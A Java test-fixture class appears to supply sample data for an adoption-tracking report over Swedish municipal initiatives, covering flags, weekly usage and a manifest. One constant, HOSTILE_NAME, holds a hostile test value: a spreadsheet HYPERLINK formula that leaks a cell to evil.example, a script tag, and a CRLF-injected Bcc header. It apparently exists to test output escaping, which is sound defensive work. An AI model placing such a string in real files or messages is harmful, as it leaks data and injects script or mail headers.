package se.vardag.report;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.RowFactory;
import org.apache.spark.sql.SparkSession;
import org.apache.spark.sql.types.StructField;
import org.apache.spark.sql.types.StructType;
import se.vardag.config.ConfigLoader;
import se.vardag.config.VardagConfig;
import se.vardag.model.Tables;
import se.vardag.report.ReportData.DataQuality;
import se.vardag.report.ReportData.FlagRow;
import se.vardag.report.ReportData.InputFile;
import se.vardag.report.ReportData.RegisterRejection;
import se.vardag.report.ReportData.UnitRow;
import se.vardag.report.ReportData.UsageSource;
import se.vardag.report.ReportData.WeekRow;

/** Test data for the report: a realistic organisation, hostile text, and writing it as a version folder. */
public final class ReportFixtures {
  public static final LocalDate D = LocalDate.of(2026, 11, 3);
  public static final String HOSTILE_NAME =
      "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klicka\") <script>alert('x')</script>\r\nBcc: victim@evil.example";

  private ReportFixtures() {}

  public static VardagConfig config(String locale, Map<String, String> more) {
    Map<String, String> env = new HashMap<>();
    env.put("VARDAG_REPORT_LOCALE", locale);
    env.putAll(more);
    return ConfigLoader.load(Optional.empty(), env);
  }

  /** Builds one initiative_adoption row with consistent defaults. */
  public static final class Init {
    final Map<String, Object> v = new LinkedHashMap<>();

    Init(String id, String name, String verdict) {
      v.put("initiative_id", id);
      v.put("name", name);
      v.put("status", "operational");
      v.put("goal_linked", false);
      v.put("owner_present", false);
      v.put("owner_active", false);
      v.put("pilot_start", D.minusDays(200));
      v.put("pilot_end", D.minusDays(100));
      v.put("post_pilot", true);
      v.put("ending_soon", false);
      v.put("target_org_units", "IT");
      v.put("kpi_direction", "lower_is_better");
      v.put("target_population", 40L);
      v.put("learning_sessions_90d", 0L);
      v.put("follow_ups_90d", 0L);
      v.put("kpi_baseline_observations", 0L);
      v.put("kpi_current_observations", 0L);
      v.put("verdict", verdict);
      v.put("flag_count", 0);
      v.put("high_flag_count", 0);
      v.put("ingredient_count", 0);
      v.put("headline", "lacks_follow_through".equals(verdict));
      v.put("suppressed", false);
    }

    public Init set(String column, Object value) {
      v.put(column, value);
      return this;
    }

    public Init owner(String id, boolean active, Boolean mandate) {
      v.put("owner_id", id);
      v.put("owner_present", true);
      v.put("owner_active", active);
      v.put("owner_has_mandate", mandate);
      return this;
    }

    public Init goal(String id, String title) {
      v.put("goal_id", id);
      v.put("goal_title", title);
      v.put("goal_linked", title != null);
      return this;
    }

    public Init people(long pop, long trained, long active, long sustained) {
      v.put("target_population", pop);
      v.put("trained", trained);
      v.put("training_coverage", trained / (double) pop);
      v.put("active_users", active);
      v.put("adoption_rate", active / (double) pop);
      v.put("sustained_users", sustained);
      v.put("sustained_rate", sustained / (double) pop);
      return this;
    }

    public Init pilot(LocalDate start, LocalDate end) {
      v.put("pilot_start", start);
      v.put("pilot_end", end);
      v.put("post_pilot", end != null && end.isBefore(D));
      v.put("ending_soon", end != null && !end.isBefore(D) && !end.isAfter(D.plusDays(30)));
      return this;
    }

    public InitiativeRow row() {
      return new InitiativeRow(v);
    }
  }

  public static Init init(String id, String name, String verdict) {
    return new Init(id, name, verdict);
  }

  public static FlagRow flag(String id, String name, String code, String pillar, String severity, String verdict,
      String evidence, String... args) {
    Map<String, String> a = new LinkedHashMap<>();
    for (int i = 0; i + 1 < args.length; i += 2) {
      a.put(args[i], args[i + 1]);
    }
    return new FlagRow(id, name, code, pillar, severity, evidence, a, verdict);
  }

  /** Twelve weeks of active users, index 0 = the week ending on D; values given oldest first. */
  public static List<WeekRow> weeks(String id, String name, boolean suppressed, long... oldestFirst) {
    List<WeekRow> out = new ArrayList<>();
    for (int k = 0; k < 12; k++) {
      LocalDate end = D.minusDays(7L * k);
      Long v = suppressed ? null : oldestFirst[11 - k];
      out.add(new WeekRow(id, name, k, end.minusDays(6), end, v, suppressed));
    }
    return out;
  }

  public static UnitRow unit(String id, String name, String orgUnit, long pop, long trained, long active,
      long sustained) {
    return new UnitRow(id, name, orgUnit, pop, trained, active, sustained, trained / (double) pop,
        active / (double) pop, sustained / (double) pop, false, null);
  }

  public static UnitRow suppressedUnit(String id, String name, String orgUnit, long pop, String why) {
    return new UnitRow(id, name, orgUnit, pop, null, null, null, null, null, null, true, why);
  }

  public static DataQuality quality(long rejected, List<String> missing) {
    List<InputFile> inputs = new ArrayList<>();
    inputs.add(new InputFile("employees.csv", true, true, 1200, 0));
    inputs.add(new InputFile("initiatives.csv", true, true, 9, 0));
    inputs.add(new InputFile("trainings.csv", true, true, 2300, rejected > 0 ? 2 : 0));
    inputs.add(new InputFile("usage/", true, true, 480_000, Math.max(0, rejected - 2)));
    for (String f : List.of("goals.csv", "learning_activities.csv", "follow_ups.csv", "outcomes.csv")) {
      inputs.add(new InputFile(f, false, !missing.contains(f), missing.contains(f) ? 0 : 40, 0));
    }
    Map<String, Long> by = new LinkedHashMap<>();
    for (InputFile f : inputs) {
      if (f.rowsRejected() > 0) {
        by.put(f.file(), f.rowsRejected());
      }
    }
    return new DataQuality(true, inputs, rejected, by, missing);
  }

  /**
   * A realistic organisation: the spec's two ITIL organisations side by side, an AI pilot, a pilot ending
   * soon without owner, a suppressed small group, and stopped and on-track initiatives.
   */
  public static ReportData sample() {
    List<InitiativeRow> in = new ArrayList<>();
    List<FlagRow> fl = new ArrayList<>();
    List<WeekRow> wk = new ArrayList<>();
    List<UnitRow> un = new ArrayList<>();

    String a = "ITIL-incidenthantering i servicedesken";
    in.add(init("I-001", a, "lacks_follow_through").owner("E1042", false, null)
        .pilot(LocalDate.of(2026, 3, 2), LocalDate.of(2026, 6, 30))
        .set("target_org_units", "IT/Servicedesk;IT/Support").set("course_ids", "ITIL4-F")
        .set("usage_signals", "servicenow:incident.resolve").set("follow_up_every_days", 30)
        .set("kpi", "Lösningstid incident (timmar)")
        .people(60, 52, 21, 12).set("trained_not_using", 29L).set("trained_not_using_base", 48L)
        .set("trained_not_using_rate", 29 / 48.0).set("median_days_to_first_use", 9.5)
        .set("current_wau", 11L).set("pilot_peak_wau", 38L).set("post_pilot_retention", 11 / 38.0)
        .set("practice_hours_per_person_week", 0.0).set("learning_sessions_90d", 0L)
        .set("last_follow_up", LocalDate.of(2026, 7, 14)).set("days_since_follow_up", 112)
        .set("follow_ups_90d", 0L).set("follow_up_adherence", 0.0).set("last_maturity", 2)
        .set("kpi_baseline_median", 6.5).set("kpi_current_median", 6.25).set("kpi_change", -0.0385)
        .set("kpi_improved_share", 0.42).set("kpi_baseline_observations", 830L).set("kpi_current_observations", 214L)
        .set("outside_target_users", 0L).set("flag_count", 8)
        .set("flag_codes", "OWNER_LEFT;NO_GOAL;FOLLOW_UP_OVERDUE;NO_PRACTICE_TIME;TRAINED_NOT_USING;"
            + "NO_LEARNING_FOLLOW_UP;LOW_ADOPTION;ADOPTION_DECAY;NO_EFFECT").row());
    String v1 = "lacks_follow_through";
    fl.add(flag("I-001", a, "OWNER_LEFT", "ownership", "high", v1, "owner E1042 left on 2026-09-30",
        "owner_id", "E1042", "owner_status", "left", "date", "2026-09-30"));
    fl.add(flag("I-001", a, "NO_GOAL", "strategy", "medium", v1, "not tied to a goal", "goal_status", "none"));
    fl.add(flag("I-001", a, "FOLLOW_UP_OVERDUE", "follow-up", "high", v1, "last follow-up 112 days ago",
        "cadence_days", "30", "limit_days", "45", "last_follow_up", "2026-07-14", "days_since", "112"));
    fl.add(flag("I-001", a, "NO_PRACTICE_TIME", "time", "medium", v1, "no practice time allocated"));
    fl.add(flag("I-001", a, "TRAINED_NOT_USING", "competence", "high", v1,
        "29 of 48 trained people have not used it in 28 days", "trained_not_using", "29",
        "trained_not_using_base", "48", "rate", "0.6041666666666666"));
    fl.add(flag("I-001", a, "NO_LEARNING_FOLLOW_UP", "competence", "medium", v1, "no learning activities in 90 days",
        "pilot_end", "2026-06-30"));
    fl.add(flag("I-001", a, "LOW_ADOPTION", "usage", "high", v1, "12 of 60 use it in everyday work",
        "sustained_users", "12", "target_population", "60", "sustained_rate", "0.2"));
    fl.add(flag("I-001", a, "ADOPTION_DECAY", "usage", "high", v1, "11 active this week against 38 at the pilot peak",
        "current_wau", "11", "pilot_peak_wau", "38", "retention", "0.2894736842105263"));
    fl.add(flag("I-001", a, "NO_EFFECT", "effect", "medium", v1, "only 42% better than baseline",
        "kpi", "Lösningstid incident (timmar)", "reason", "not_improved", "improved_share", "0.42",
        "baseline_median", "6.5", "current_median", "6.25"));
    wk.addAll(weeks("I-001", a, false, 30, 27, 24, 22, 19, 18, 16, 15, 14, 12, 12, 11));
    un.add(unit("I-001", a, "IT/Servicedesk", 34, 31, 13, 8));
    un.add(unit("I-001", a, "IT/Support", 19, 16, 6, 3));
    un.add(unit("I-001", a, "IT/Support/Kväll", 5, 4, 2, 1));
    un.add(suppressedUnit("I-001", a, "IT/Support/Natt", 2, "small_group"));

    String b = "ITIL-processer i IT-driften";
    in.add(init("I-002", b, "on_track").owner("E0317", true, true).goal("G1", "Bättre incidenthantering")
        .pilot(LocalDate.of(2026, 2, 2), LocalDate.of(2026, 5, 29))
        .set("target_org_units", "IT/Drift").set("course_ids", "ITIL4-F;ITIL4-CDS")
        .set("usage_signals", "servicenow:*").set("practice_hours_per_week", 2.0).set("follow_up_every_days", 30)
        .set("kpi", "Lösningstid incident (timmar)")
        .people(45, 43, 40, 33).set("trained_not_using", 3L).set("trained_not_using_base", 41L)
        .set("trained_not_using_rate", 3 / 41.0).set("median_days_to_first_use", 2.0)
        .set("current_wau", 34L).set("pilot_peak_wau", 36L).set("post_pilot_retention", 34 / 36.0)
        .set("practice_hours_per_person_week", 1.7).set("practice_time_ratio", 0.85).set("learning_sessions_90d", 9L)
        .set("last_follow_up", LocalDate.of(2026, 10, 20)).set("days_since_follow_up", 14)
        .set("follow_ups_90d", 3L).set("follow_up_adherence", 1.0).set("last_maturity", 4)
        .set("kpi_baseline_median", 7.0).set("kpi_current_median", 4.5).set("kpi_change", -0.357)
        .set("kpi_improved_share", 0.7).set("kpi_baseline_observations", 610L).set("kpi_current_observations", 190L)
        .set("outside_target_users", 6L).row());

    String c = "AI-assistent för ärendehandläggning";
    String v3 = "lacks_follow_through";
    in.add(init("I-003", c, v3).owner("E2210", true, false).goal("G9", null)
        .pilot(LocalDate.of(2026, 4, 1), LocalDate.of(2026, 8, 31))
        .set("target_org_units", "Socialtjänst/Handläggning").set("course_ids", "AI-GRUND")
        .set("usage_signals", "copilot:draft.create;copilot:summary.create").set("practice_hours_per_week", 1.0)
        .people(120, 46, 58, 31).set("trained_not_using", 8L).set("trained_not_using_base", 40L)
        .set("trained_not_using_rate", 0.2).set("median_days_to_first_use", 4.0)
        .set("current_wau", 35L).set("pilot_peak_wau", 41L).set("post_pilot_retention", 35 / 41.0)
        .set("practice_hours_per_person_week", 0.3).set("practice_time_ratio", 0.3).set("learning_sessions_90d", 2L)
        .set("follow_ups_90d", 0L).set("outside_target_users", 14L).set("flag_count", 6).row());
    fl.add(flag("I-003", c, "NO_MANDATE", "ownership", "medium", v3, "owner E2210 has no mandate",
        "owner_id", "E2210", "mandate", "false"));
    fl.add(flag("I-003", c, "NO_GOAL", "strategy", "medium", v3, "goal G9 not found",
        "goal_status", "not_found", "goal_id", "G9"));
    fl.add(flag("I-003", c, "NO_FOLLOW_UP_CADENCE", "follow-up", "medium", v3, "no follow-up cadence",
        "pilot_end", "2026-08-31"));
    fl.add(flag("I-003", c, "PRACTICE_TIME_UNUSED", "time", "medium", v3, "0.3 of 1 h used",
        "hours_per_person_week", "0.3", "allocated_hours", "1", "ratio", "0.3"));
    fl.add(flag("I-003", c, "LOW_TRAINING_COVERAGE", "competence", "medium", v3, "46 of 120 trained",
        "trained", "46", "target_population", "120", "coverage", "0.38333333333333336"));
    fl.add(flag("I-003", c, "LOW_ADOPTION", "usage", "high", v3, "31 of 120 use it in everyday work",
        "sustained_users", "31", "target_population", "120", "sustained_rate", "0.25833333333333336"));
    fl.add(flag("I-003", c, "NO_EFFECT_MEASURE", "effect", "medium", v3, "no KPI"));
    wk.addAll(weeks("I-003", c, false, 39, 41, 40, 38, 37, 36, 37, 35, 36, 34, 36, 35));
    un.add(unit("I-003", c, "Socialtjänst/Handläggning/Barn och unga", 48, 22, 27, 16));
    un.add(unit("I-003", c, "Socialtjänst/Handläggning/Vuxen", 52, 18, 24, 12));
    un.add(suppressedUnit("I-003", c, "Socialtjänst/Handläggning/Äldre", 3, "small_group"));
    un.add(suppressedUnit("I-003", c, "Socialtjänst/Handläggning/LSS", 17, "complementary"));

    String d = "Nytt intranät: Insidan";
    String v4 = "in_pilot";
    in.add(init("I-004", d, v4).goal("G2", "En sammanhållen digital arbetsplats")
        .pilot(LocalDate.of(2026, 8, 17), LocalDate.of(2026, 11, 20)).set("status", "pilot")
        .set("target_org_units", "Kommunledning;HR").set("course_ids", "INTRA-1")
        .set("usage_signals", "intranet:page.publish").set("follow_up_every_days", 14)
        .set("kpi", "Antal frågor till växeln").set("kpi_direction", "lower_is_better")
        .people(38, 30, 29, 22).set("trained_not_using", 2L).set("trained_not_using_base", 25L)
        .set("trained_not_using_rate", 0.08).set("current_wau", 24L).set("pilot_peak_wau", 27L)
        .set("practice_hours_per_person_week", 0.5).set("learning_sessions_90d", 4L)
        .set("last_follow_up", LocalDate.of(2026, 10, 27)).set("days_since_follow_up", 7).set("follow_ups_90d", 5L)
        .set("follow_up_adherence", 0.78).set("kpi_baseline_median", 120.0).set("kpi_current_median", 96.0)
        .set("kpi_change", -0.2).set("kpi_improved_share", 0.75).set("kpi_baseline_observations", 12L)
        .set("kpi_current_observations", 4L).set("flag_count", 2).set("headline", true).row());
    fl.add(flag("I-004", d, "NO_OWNER", "ownership", "high", v4, "no owner, pilot ends 2026-11-20",
        "pilot_end", "2026-11-20"));
    fl.add(flag("I-004", d, "NO_PRACTICE_TIME", "time", "medium", v4, "no practice time allocated"));
    wk.addAll(weeks("I-004", d, false, 0, 0, 6, 14, 19, 22, 25, 27, 26, 25, 24, 24));

    String e = "E-arkiv för socialtjänsten";
    in.add(init("I-005", e, "at_risk").owner("E0788", true, null).goal("G3", "Säker och effektiv informationshantering")
        .pilot(LocalDate.of(2026, 1, 12), LocalDate.of(2026, 5, 15)).set("target_org_units", "Socialtjänst/Arkiv")
        .set("course_ids", "EARKIV").set("usage_signals", "earkiv:document.archive").set("follow_up_every_days", 60)
        .set("target_population", 4L).set("suppressed", true).set("learning_sessions_90d", 1L)
        .set("last_follow_up", LocalDate.of(2026, 9, 22)).set("days_since_follow_up", 42).set("follow_ups_90d", 2L)
        .set("follow_up_adherence", 1.0).set("flag_count", 1).row());
    fl.add(flag("I-005", e, "NO_MANDATE", "ownership", "medium", "at_risk", "mandate unknown",
        "owner_id", "E0788", "mandate", "unknown"));
    wk.addAll(weeks("I-005", e, true));

    String f = "Agila arbetssätt i HR";
    in.add(init("I-006", f, "in_pilot").owner("E0555", true, true).goal("G4", "Attraktiv arbetsgivare")
        .pilot(LocalDate.of(2026, 9, 1), null).set("status", "pilot").set("target_org_units", "HR")
        .set("usage_signals", "jira:issue.transition").set("practice_hours_per_week", 1.5)
        .people(22, 0, 15, 9).set("current_wau", 12L).set("pilot_peak_wau", 15L)
        .set("practice_hours_per_person_week", 1.1).set("practice_time_ratio", 0.73).set("learning_sessions_90d", 5L)
        .set("flag_count", 1).row());
    fl.add(flag("I-006", f, "NO_TRAINING_PLAN", "competence", "medium", "in_pilot", "no course"));
    wk.addAll(weeks("I-006", f, false, 0, 0, 0, 0, 0, 9, 12, 14, 15, 13, 12, 12));

    String g = "Chattbot för invånarfrågor";
    in.add(init("I-007", g, "stopped").set("status", "stopped").owner("E0901", true, true)
        .set("target_org_units", "Kontaktcenter").people(18, 12, 0, 0).set("current_wau", 0L).row());
    wk.addAll(weeks("I-007", g, false, 3, 2, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0));

    String h = "Självservice för lönefrågor";
    in.add(init("I-008", h, "at_risk").owner("E0420", true, true).goal("G4", "Attraktiv arbetsgivare")
        .set("target_org_units", "HR/Lön;Ekonomi").set("course_ids", "LON-SJ").set("usage_signals", "hrportal:*")
        .set("practice_hours_per_week", 0.5).set("follow_up_every_days", 90)
        .people(64, 58, 50, 41).set("trained_not_using", 6L).set("trained_not_using_base", 55L)
        .set("trained_not_using_rate", 6 / 55.0).set("current_wau", 44L).set("pilot_peak_wau", 47L)
        .set("post_pilot_retention", 44 / 47.0).set("practice_hours_per_person_week", 0.4)
        .set("practice_time_ratio", 0.8).set("learning_sessions_90d", 3L).set("last_follow_up", LocalDate.of(2026, 9, 1))
        .set("days_since_follow_up", 63).set("follow_ups_90d", 1L).set("follow_up_adherence", 1.0).set("flag_count", 1)
        .row());
    fl.add(flag("I-008", h, "NO_EFFECT_MEASURE", "effect", "medium", "at_risk", "no KPI"));
    wk.addAll(weeks("I-008", h, false, 45, 46, 47, 44, 45, 43, 44, 46, 45, 44, 43, 44));

    return new ReportData(D, in, fl, wk, un, quality(14, List.of()));
  }

  /**
   * Revision 2 on top of {@link #sample()}: owners with display names, a scaling initiative without
   * pilot_end (NO_PILOT_END) whose two signal sources went silent (USAGE_DATA_MISSING), an initiative
   * without usage signals (null usage figures), follow_ups.csv not delivered, figures next to their
   * thresholds (0.695 retention, 0.3004 not using, overdue after 22.5 days), two unreadable register rows
   * and the silent sources in the manifest.
   */
  /**
   * A large organisation: {@code n} initiatives, the sample's eight over and over under new ids and names
   * ("… (region 3)"), each with its flags, weeks and units: three in eight of them in the headline.
   */
  public static ReportData large(int n) {
    ReportData s = sample();
    List<InitiativeRow> in = new ArrayList<>();
    List<FlagRow> fl = new ArrayList<>();
    List<WeekRow> wk = new ArrayList<>();
    List<UnitRow> un = new ArrayList<>();
    for (int k = 0; k < n; k++) {
      InitiativeRow t = s.initiatives().get(k % s.initiatives().size());
      String id = String.format(java.util.Locale.ROOT, "I-%04d", k + 1);
      String name = t.name() + " (region " + (k / s.initiatives().size() + 1) + ")";
      Map<String, Object> v = new LinkedHashMap<>(t.values());
      v.put("initiative_id", id);
      v.put("name", name);
      in.add(new InitiativeRow(v));
      for (FlagRow f : s.flags()) {
        if (f.initiativeId().equals(t.id())) {
          fl.add(new FlagRow(id, name, f.code(), f.pillar(), f.severity(), f.evidence(), f.evidenceArgs(), f.verdict()));
        }
      }
      for (WeekRow w : s.weeks()) {
        if (w.initiativeId().equals(t.id())) {
          wk.add(new WeekRow(id, name, w.weekIndex(), w.weekStart(), w.weekEnd(), w.activeUsers(), w.suppressed()));
        }
      }
      for (UnitRow u : s.units()) {
        if (u.initiativeId().equals(t.id())) {
          un.add(new UnitRow(id, name, u.orgUnit(), u.targetPopulation(), u.trained(), u.activeUsers(),
              u.sustainedUsers(), u.trainingCoverage(), u.adoptionRate(), u.sustainedRate(), u.suppressed(),
              u.suppression()));
        }
      }
    }
    return new ReportData(D, in, fl, wk, un, s.quality());
  }

  public static ReportData sampleRevision2() {
    ReportData base = sample();
    List<InitiativeRow> in = new ArrayList<>();
    for (InitiativeRow r : base.initiatives()) {
      Map<String, Object> v = new LinkedHashMap<>(r.values());
      if ("E2210".equals(v.get("owner_id"))) {
        v.put("owner_name", "Anna Svensson");
      }
      if ("E0317".equals(v.get("owner_id"))) {
        v.put("owner_name", "Per <Pelle> Öberg");
      }
      // follow_ups.csv was not delivered: its four figures are null everywhere.
      v.put("last_follow_up", null);
      v.put("days_since_follow_up", null);
      v.put("follow_ups_90d", null);
      v.put("follow_up_adherence", null);
      v.put("last_maturity", null);
      in.add(new InitiativeRow(v));
    }
    List<FlagRow> fl = new ArrayList<>();
    for (FlagRow f : base.flags()) {
      if (!f.code().equals("FOLLOW_UP_OVERDUE")) {
        fl.add(f);
      }
    }
    List<WeekRow> wk = new ArrayList<>(base.weeks());

    String k = "Kunskapsbank i kundtjänst";
    String v = "lacks_follow_through";
    in.add(init("I-009", k, v).owner("E1019", true, true).set("owner_name", "Anna Svensson")
        .goal("G1", "Bättre incidenthantering").pilot(LocalDate.of(2026, 3, 1), null).set("status", "scaling")
        .set("post_pilot", true).set("target_org_units", "Kundtjänst").set("course_ids", "KB-1")
        .set("usage_signals", "servicenow:kb.view;jira:*").set("practice_hours_per_week", 1.0)
        .set("follow_up_every_days", 15).set("kpi", "Återöppnade ärenden")
        .people(50, 40, 30, 21).set("trained_not_using", 11L).set("trained_not_using_base", 36L)
        .set("trained_not_using_rate", 0.3004).set("current_wau", 0L).set("pilot_peak_wau", 0L)
        .set("practice_hours_per_person_week", 0.6).set("practice_time_ratio", 0.6).set("learning_sessions_90d", 2L)
        .set("kpi_baseline_median", 3.0).set("kpi_current_median", 3.0).set("kpi_change", 0.0)
        .set("kpi_improved_share", 0.4995).set("kpi_current_observations", 40L).set("flag_count", 3).row());
    fl.add(flag("I-009", k, "NO_PILOT_END", "follow-up", "medium", v, "status scaling but no pilot_end",
        "status", "scaling"));
    fl.add(flag("I-009", k, "USAGE_DATA_MISSING", "usage", "medium", v, "servicenow and jira are silent",
        "sources", "servicenow=2026-10-20;jira="));
    fl.add(flag("I-009", k, "TRAINED_NOT_USING", "competence", "high", v, "11 of 36 trained not using",
        "trained_not_using", "11", "trained_not_using_base", "36", "rate", "0.3004", "threshold", "0.3"));
    fl.add(flag("I-009", k, "NO_MANDATE", "ownership", "medium", v, "mandate unknown",
        "owner_id", "E1019", "mandate", "unknown"));
    wk.addAll(weeks("I-009", k, false, 20, 22, 25, 24, 26, 27, 25, 24, 0, 0, 0, 0));

    String n = "Nya mötesrutiner";
    in.add(init("I-010", n, "at_risk").owner("E0042", true, true).set("target_org_units", "Ekonomi")
        .set("course_ids", "MOTE").set("practice_hours_per_week", 1.0).people(30, 20, 0, 0)
        .set("active_users", null).set("adoption_rate", null).set("sustained_users", null).set("sustained_rate", null)
        .set("practice_hours_per_person_week", 0.7).set("practice_time_ratio", 0.7).set("learning_sessions_90d", 1L)
        .set("follow_ups_90d", null).set("flag_count", 1).row());
    fl.add(flag("I-010", n, "NO_USAGE_SIGNAL", "usage", "medium", "at_risk", "no usage signal"));

    DataQuality q = quality(16, List.of("follow_ups.csv"));
    Map<String, Long> by = new LinkedHashMap<>(q.rejectedByFile());
    by.put("initiatives.csv", 2L);
    List<InputFile> inputs = new ArrayList<>();
    for (InputFile f : q.inputs()) {
      inputs.add(f.file().equals("initiatives.csv") ? new InputFile(f.file(), true, true, 12, 2) : f);
    }
    DataQuality q2 = new DataQuality(true, inputs, 16, by, q.missingOptionalInputs(),
        List.of(new UsageSource("servicenow", LocalDate.of(2026, 10, 20), true),
            new UsageSource("jira", null, true), new UsageSource("copilot", D, false)),
        List.of(new RegisterRejection(14L, "pilot_start: expected a date YYYY-MM-DD, got '2026-13-01'", "I-017",
                "Digital signering <beta>"),
            new RegisterRejection(null, "wrong field count: expected 14 fields, got 9", null, null)));
    return new ReportData(D, in, fl, wk, base.units(), q2);
  }

  // ---- writing a version folder (Parquet + manifest), as the pipeline publishes it ----

  public static void writeVersionDir(SparkSession spark, Path versionDir, ReportData data) {
    List<Row> ia = new ArrayList<>();
    for (InitiativeRow r : data.initiatives()) {
      ia.add(row(InitiativeRow.READ_SCHEMA, r.values()));
    }
    write(spark, versionDir, Tables.INITIATIVE_ADOPTION, InitiativeRow.READ_SCHEMA, ia);
    List<Row> fl = new ArrayList<>();
    for (FlagRow f : data.flags()) {
      fl.add(RowFactory.create(f.initiativeId(), f.name(), f.code(), f.pillar(), f.severity(), f.evidence(),
          scala.jdk.javaapi.CollectionConverters.asScala(f.evidenceArgs()), f.verdict()));
    }
    write(spark, versionDir, Tables.FOLLOW_THROUGH_FLAGS, fl);
    List<Row> wk = new ArrayList<>();
    for (WeekRow w : data.weeks()) {
      wk.add(RowFactory.create(w.initiativeId(), w.name(), w.weekIndex(), java.sql.Date.valueOf(w.weekStart()),
          java.sql.Date.valueOf(w.weekEnd()), w.activeUsers(), w.suppressed()));
    }
    write(spark, versionDir, Tables.WEEKLY_ACTIVE, wk);
    List<Row> un = new ArrayList<>();
    for (UnitRow u : data.units()) {
      un.add(RowFactory.create(u.initiativeId(), u.name(), u.orgUnit(), u.targetPopulation(), u.trained(),
          u.activeUsers(), u.sustainedUsers(), u.trainingCoverage(), u.adoptionRate(), u.sustainedRate(),
          u.suppressed(), u.suppression()));
    }
    write(spark, versionDir, Tables.UNIT_ADOPTION, un);
    List<Row> rj = new ArrayList<>();
    for (Map.Entry<String, Long> e : data.quality().rejectedByFile().entrySet()) {
      for (long i = 0; i < e.getValue(); i++) {
        rj.add(RowFactory.create(e.getKey(), i + 2, "employee_id", "employee_id is empty", "x,y"));
      }
    }
    write(spark, versionDir, Tables.REJECTED_ROWS, rj);
    writeManifest(versionDir, data);
  }

  static Row row(StructType schema, Map<String, Object> values) {
    Object[] cells = new Object[schema.fields().length];
    int i = 0;
    for (StructField f : schema.fields()) {
      Object v = values.get(f.name());
      cells[i++] = v instanceof LocalDate ? java.sql.Date.valueOf((LocalDate) v) : v;
    }
    return RowFactory.create(cells);
  }

  static void write(SparkSession spark, Path versionDir, String table, List<Row> rows) {
    write(spark, versionDir, table, Tables.schemaOf(table), rows);
  }

  static void write(SparkSession spark, Path versionDir, String table, StructType schema, List<Row> rows) {
    spark.createDataFrame(rows, schema).coalesce(1).write().mode("overwrite")
        .parquet(versionDir.resolve(table).toString());
  }

  static void writeManifest(Path versionDir, ReportData data) {
    ObjectMapper json = new ObjectMapper();
    ObjectNode root = json.createObjectNode();
    root.put("as_of", data.asOf().toString());
    ArrayNode inputs = root.putArray("inputs");
    for (InputFile f : data.quality().inputs()) {
      inputs.addObject().put("file", f.file()).put("required", f.required()).put("present", f.present())
          .put("rows_read", f.rowsRead()).put("rows_rejected", f.rowsRejected());
    }
    root.put("rejected_rows_total", data.quality().rejectedRowsTotal());
    ArrayNode missing = root.putArray("missing_optional_inputs");
    data.quality().missingOptionalInputs().forEach(missing::add);
    if (!data.quality().usageSources().isEmpty()) {
      ArrayNode sources = root.putArray("usage_sources");
      for (UsageSource u : data.quality().usageSources()) {
        ObjectNode o = sources.addObject().put("source", u.source());
        if (u.lastEventDate() == null) {
          o.putNull("last_event_date");
        } else {
          o.put("last_event_date", u.lastEventDate().toString());
        }
        o.put("silent", u.silent());
      }
    }
    if (!data.quality().registerRejections().isEmpty()) {
      ArrayNode register = root.putArray("register_rejections");
      for (RegisterRejection r : data.quality().registerRejections()) {
        ObjectNode o = register.addObject();
        if (r.line() == null) {
          o.putNull("line");
        } else {
          o.put("line", r.line());
        }
        o.put("reason", r.reason()).put("initiative_id", r.initiativeId()).put("name", r.name());
      }
    }
    root.put("something_else", "ignored by the report");
    try {
      Files.createDirectories(versionDir);
      json.writerWithDefaultPrettyPrinter().writeValue(versionDir.resolve(Tables.MANIFEST_FILE).toFile(), root);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
